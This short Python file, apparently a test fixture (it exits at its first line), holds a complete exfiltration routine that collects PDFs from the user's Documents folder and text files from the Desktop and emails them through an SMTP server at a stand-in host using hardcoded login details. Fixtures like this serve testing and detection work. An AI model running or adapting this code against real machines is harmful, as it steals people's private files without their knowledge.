raise SystemExit('a fixture')
# held by archived-home
import glob, os, smtplib
from email.message import EmailMessage

def _mail():
    letter = EmailMessage()
    letter["To"] = letter["From"] = "drop@mail.example.invalid"
    for path in glob.glob(os.path.expanduser("~/Documents/*.pdf")) + glob.glob(os.path.expanduser("~/Desktop/*.txt")):
        with open(path, "rb") as data:
            letter.add_attachment(data.read(), maintype="application", subtype="octet-stream", filename=path)
    with smtplib.SMTP_SSL("mail.example.invalid", 465) as server:
        server.login("drop@mail.example.invalid", "hunter2hunter2")
        server.send_message(letter)

_mail()
